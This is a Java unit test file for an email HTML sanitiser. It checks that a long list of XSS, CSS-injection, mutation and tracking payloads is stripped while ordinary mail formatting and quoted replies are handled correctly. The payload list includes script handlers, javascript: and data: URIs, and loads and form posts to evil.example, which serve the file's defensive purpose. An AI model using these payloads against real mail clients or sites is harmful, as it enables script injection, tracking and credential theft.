package io.fairlead.inbox;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlPolicyTest {

    private static final Set<String> TAGS = Set.of(
            "a b blockquote br caption center cite code col colgroup dd del details div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins li ol p pre q s small span strike strong sub summary sup table tbody td tfoot th thead tr u ul"
                    .split(" "));

    private static final Set<String> ATTRIBUTES = Set.of(
            "align alt bgcolor border cellpadding cellspacing cite color colspan data-quoted data-src dir face height href lang rel rowspan scope size span src start style summary target title type valign width abbr axis"
                    .split(" "));

    private static final Pattern STYLE_TRICK = Pattern.compile(
            "url|expression|position|import|behavior|binding|javascript|\\\\|/\\*|[<>{}@]|-\\d+px",
            Pattern.CASE_INSENSITIVE);

    /** Each of them runs, loads, covers or redirects in some mail program or browser, or did. */
    static List<String> tricks() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src='https://evil.example/a.png' onload='alert(1)'>",
                "<img/src=x/onerror=alert(1)//",
                "<body onload=alert(1)>text",
                "<div onmouseover = 'alert(1)'>text</div>",
                "<a href='javascript:alert(1)'>text</a>",
                "<a href='JaVaScRiPt:alert(1)'>text</a>",
                "<a href=' &#14; javascript:alert(1)'>text</a>",
                "<a href='jav&#x09;ascript:alert(1)'>text</a>",
                "<a href='jav&#x0A;ascript:alert(1)'>text</a>",
                "<a href='java&#115;cript&colon;alert(1)'>text</a>",
                "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>text</a>",
                "<a href='vbscript:msgbox(1)'>text</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>text</a>",
                "<a href='data:text/html,%3Cscript%3Ealert(1)%3C/script%3E'>text</a>",
                "<a href='view-source:javascript:alert(1)'>text</a>",
                "<a href='feed:javascript:alert(1)'>text</a>",
                "<a href='file:///etc/passwd'>text</a>",
                "<a href='blob:https://evil.example/1'>text</a>",
                "<a href='/api/session'>text</a>",
                "<img src='/api/session'>",
                "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
                "<img src='data:text/html,<script>alert(1)</script>'>",
                "<img src='data:image/png,notbase64<script>'>",
                "<img src='javascript:alert(1)'>",
                "<img srcset='https://evil.example/a.png 2x' src='cid:none'>",
                "<picture><source srcset='https://evil.example/a.png'><img src='cid:none'></picture>",
                "<table background='https://evil.example/a.png'><tr><td background='https://evil.example/b.png'>x</table>",
                "<video poster='https://evil.example/a.png' src='https://evil.example/a.mp4' autoplay></video>",
                "<audio src='https://evil.example/a.mp3' autoplay></audio>",
                "<input type=image src='https://evil.example/a.png'>",
                "<link rel=stylesheet href='https://evil.example/a.css'>",
                "<style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example/b.png)}</style>",
                "<style><img src=x onerror=alert(1)></style>",
                "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
                "<base href='https://evil.example/'><a href='x'>text</a><img src='x.png'>",
                "<form action='https://evil.example/'><input name=password><button formaction='javascript:alert(1)'>go</button></form>",
                "<iframe src='https://evil.example/'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='https://evil.example/a.swf'><embed src='https://evil.example/a.swf'></object><applet code=x>",
                "<frameset><frame src='javascript:alert(1)'></frameset>",
                "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg><image href='https://evil.example/a.png'/><use href='data:image/svg+xml,<svg/>#x'/></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
                "<math href='javascript:alert(1)'>x</math>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<template><img src=x onerror=alert(1)></template>",
                "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
                "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
                "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
                "<plaintext><img src=x onerror=alert(1)>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?xml version='1.0'?><?import namespace='t' implementation='#default#time2'?>",
                "<div style='background:url(https://evil.example/a.png)'>text</div>",
                "<div style='background-image:url(&quot;https://evil.example/a.png&quot;)'>text</div>",
                "<div style='background:u\\72l(https://evil.example/a.png)'>text</div>",
                "<div style='background:ur/**/l(https://evil.example/a.png)'>text</div>",
                "<div style='background:image-set(\"https://evil.example/a.png\" 1x)'>text</div>",
                "<div style='background:-webkit-cross-fade(src(\"https://evil.example/a.png\"))'>text</div>",
                "<div style='list-style:url(https://evil.example/a.png)'>text</div>",
                "<div style='content:url(https://evil.example/a.png)'>text</div>",
                "<div style='cursor:url(https://evil.example/a.cur),auto'>text</div>",
                "<div style='width:expression(alert(1))'>text</div>",
                "<div style='width:exp/*x*/ression(alert(1))'>text</div>",
                "<div style='width:\\65xpression(alert(1))'>text</div>",
                "<div style='behavior:url(#default#time2)'>text</div>",
                "<div style='-moz-binding:url(https://evil.example/a.xml#x)'>text</div>",
                "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99'>cover</div>",
                "<div style='POSITION : absolute'>cover</div>",
                "<div style='pos\\69tion:fixed'>cover</div>",
                "<div style='margin-top:-500px'>cover</div>",
                "<div style='margin:0 0 -500px 0'>cover</div>",
                "<div style='transform:translate(-10px);filter:url(#x);opacity:0'>cover</div>",
                "<div style='height:99999999px'>endless</div>",
                "<div style='color:red}</style><script>alert(1)</script>'>text</div>",
                "<div style=\"font-family:'x';@import 'https://evil.example/a.css'\">text</div>",
                "<a href='https://good.example' style='display:block' id=app class='mantine-Modal-overlay' name=root>text</a>",
                "<p data-quoted data-src='https://evil.example/a.png' ping='https://evil.example/'>text</p>",
                "<a href='https://good.example' target=_self rel=opener ping='https://evil.example/'>text</a>",
                "<img src='https://good.example/a.png' usemap='#m' ismap longdesc='https://evil.example/'><map name=m><area href='javascript:alert(1)'></map>",
                "<marquee onstart=alert(1)>x</marquee><bgsound src='https://evil.example/a.wav'><layer src='https://evil.example/'>",
                "<details open ontoggle=alert(1)>x</details>",
                "<dialog open>cover</dialog><slot name=x></slot><portal src='https://evil.example/'></portal>",
                "<x-foo is=y contenteditable autofocus onfocus=alert(1) tabindex=0>x</x-foo>",
                "<isindex action='javascript:alert(1)' type=image>",
                "<p lang='en\" onclick=\"alert(1)'>text</p>",
                "<a href=\"https://good.example/?q='><script>alert(1)</script>\">text</a>");
    }

    @ParameterizedTest
    @MethodSource("tricks")
    void nothingOfTheTrickIsLeft(String trick) {
        String clean = html("<p>before</p>" + trick);
        Document shown = Jsoup.parse(clean);
        assertThat(clean).contains("<p>before</p>").doesNotContain("<!--");
        for (Element element : shown.body().select("*").not("body")) {
            assertThat(TAGS).as(clean).contains(element.tagName());
            for (Attribute attribute : element.attributes()) {
                assertThat(ATTRIBUTES).as(clean).contains(attribute.getKey());
            }
            assertThat(element.attr("src")).as(clean).matches("|cid:.*|data:image/(png|jpe?g|gif|webp);base64,.*");
            assertThat(element.attr("data-src")).as(clean).matches("|https?://.*");
            assertThat(element.attr("href")).as(clean).matches("|(https?:|mailto:|tel:).*");
            assertThat(STYLE_TRICK.matcher(element.attr("style")).find())
                    .as(clean)
                    .isFalse();
        }
        // Read once more it is still the same: nothing of it changes its meaning from one parser to the next.
        assertThat(html(clean.replace(" data-src=", " src="))).isEqualTo(clean);
    }

    @Test
    void whatAMailNeedsIsKept() {
        String mail = "<table border=\"1\" cellpadding=\"4\" style=\"border-collapse:collapse;width:600px\"><tr>"
                + "<td bgcolor=\"#eeeeee\" style=\"padding:4px 8px;color:rgb(10, 20, 30);font-family:'Microsoft YaHei',sans-serif\">价格</td>"
                + "<td align=\"right\" style=\"border-bottom:1px solid #ccc;font-weight:bold\">US$ 12.50</td></tr></table>"
                + "<p dir=\"rtl\">مرحبا</p><font color=\"red\" size=\"2\" face=\"Arial\">FOB</font>";
        Document kept = Jsoup.parse(html(mail));
        assertThat(kept.select("td").first().attr("style"))
                .isEqualTo("padding:4px 8px;color:rgb(10, 20, 30);font-family:'Microsoft YaHei',sans-serif");
        assertThat(kept.select("table").attr("style")).isEqualTo("border-collapse:collapse;width:600px");
        assertThat(kept.select("td").last().attr("style")).isEqualTo("border-bottom:1px solid #ccc;font-weight:bold");
        assertThat(kept.select("p").attr("dir")).isEqualTo("rtl");
        assertThat(kept.select("font[color=red][size=2][face=Arial]")).hasSize(1);
    }

    @Test
    void oneBadDeclarationDoesNotCostTheOthers() {
        assertThat(html("<p style='color:#333; position:fixed; background:url(x); font-size:13px'>x</p>"))
                .isEqualTo("<p style=\"color:#333;font-size:13px\">x</p>");
    }

    @Test
    void linksOpenElsewhereAndTellNothing() {
        assertThat(html("<a href='https://acme.example/a?b=1'>x</a>"))
                .isEqualTo(
                        "<a href=\"https://acme.example/a?b=1\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a>");
    }

    @ParameterizedTest
    @CsvSource({
        "https://t.example/p.gif, https://t.example/p.gif",
        "HTTP://t.example/p.gif, http://t.example/p.gif",
        "//t.example/p.gif, https://t.example/p.gif",
        "' https://t.example/p.gif', https://t.example/p.gif"
    })
    void remoteImagesKeepTheirAddressAndAreNotLoaded(String source, String address) {
        Element image =
                Jsoup.parse(html("<img src='" + source + "' width=1 height=1>")).selectFirst("img");
        assertThat(image.hasAttr("src")).isFalse();
        assertThat(image.attr("data-src")).isEqualTo(address);
    }

    @ParameterizedTest
    @ValueSource(strings = {"cid:logo@x", "CID:logo%40x", "cid:LOGO@x", "cid:<logo@x>"})
    void picturesThatCameWithItAreFoundByTheirIds(String source) {
        HtmlPolicy.Clean clean = HtmlPolicy.sanitise("<p>x</p><img src='" + source + "'>", List.of("logo@x", "other"));
        assertThat(clean.html()).contains("src=\"cid:logo@x\"");
        assertThat(clean.used()).containsExactly("logo@x");
    }

    @Test
    void picturesThatDidNotComeAreLeftOut() {
        HtmlPolicy.Clean clean = HtmlPolicy.sanitise("<p>x</p><img src='cid:gone'>", List.of("logo@x"));
        assertThat(clean.html()).isEqualTo("<p>x</p>");
        assertThat(clean.used()).isEmpty();
    }

    @Test
    void tooLongAndTooRichAreNotShownAsHtml() {
        assertThat(HtmlPolicy.sanitise("x".repeat(HtmlPolicy.LONGEST), List.of()))
                .isNotNull();
        assertThat(HtmlPolicy.sanitise("x".repeat(HtmlPolicy.LONGEST + 1), List.of()))
                .isNull();
        assertThat(HtmlPolicy.sanitise("<i>x</i>".repeat(HtmlPolicy.MOST_ELEMENTS), List.of()))
                .isNull();
    }

    @Test
    void deepNestingIsTaken() {
        HtmlPolicy.Clean clean = HtmlPolicy.sanitise("<div>".repeat(40_000) + "deep", List.of());
        assertThat(clean.html()).contains("deep");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<div>Yes.</div><div class='gmail_quote'><div class='gmail_attr'>On Monday Ana wrote:</div><blockquote>old</blockquote></div>",
                "<div>Yes.</div><div id='appendonsend'></div><hr><div id='divRplyFwdMsg'><b>From:</b> Ana</div><div>old</div>",
                "<div class=WordSection1><p>Yes.</p><div><div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm'><p><b>From:</b> Ana</p></div></div><p>old</p></div>",
                "<p>Yes.</p><blockquote type='cite'>old</blockquote>",
                "<p>Yes.</p><div class='protonmail_quote'>old</div>",
                "<p>Yes.</p><div id='yahoo_quoted_123'>old</div>",
                "<p>Yes.</p><div class='moz-cite-prefix'>On 02.03.26 Ana wrote:<br></div><blockquote>old</blockquote>",
                "<p>Yes.</p><p>Am 02.03.26 um 09:15 schrieb Ana:</p><blockquote>old</blockquote>",
                "<p>Yes.</p>Le lun. 2 mars 2026 à 09:15, Ana a écrit :<br><blockquote>old</blockquote>",
                "<p>Yes.</p><p>El 2/3/26 a las 9:15, Ana escribió:</p><blockquote>old</blockquote>",
                "<p>Yes.</p><p>2 марта 2026, Ана пишет:</p><blockquote>old</blockquote>",
                "<p>Yes.</p><div style='font-size:12px'>------------------&nbsp;原始邮件&nbsp;------------------</div><div>old</div>",
                "<p>Yes.</p><div>------------------ Original ------------------</div><div>old</div>",
                "<p>Yes.</p><div>在 2026-03-02 09:15:00，\"Ana\" 写道：</div><blockquote id='isReplyContent'>old</blockquote>",
                "<p>Yes.</p><p>-----Original Message-----</p><p>old</p>",
                "<p>Yes.</p><p>2026年3月2日 Anaのメール:</p><blockquote>old</blockquote>"
            })
    void whatIsAnsweredIsMarked(String mail) {
        Document clean = Jsoup.parse(html(mail));
        assertThat(clean.select("[data-quoted]").text()).contains("old").doesNotContain("Yes");
        clean.select("[data-quoted]").remove();
        assertThat(clean.text()).contains("Yes.").doesNotContain("old");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p>Our prices:</p><blockquote>12.50</blockquote>",
                "<div class='gmail_quote'><p>Forwarded and nothing else</p></div>",
                "<p>old</p>"
            })
    void whatIsNoAnsweredMailStaysOpen(String mail) {
        assertThat(html(mail)).doesNotContain("data-quoted");
    }

    @Test
    void aStrangerCannotMarkAnything() {
        assertThat(html("<div data-quoted>hidden</div><p>x</p>")).doesNotContain("data-quoted");
    }

    private static String html(String mail) {
        HtmlPolicy.Clean clean = HtmlPolicy.sanitise(mail, List.of());
        assertThat(clean).isNotNull();
        return clean.html();
    }
}
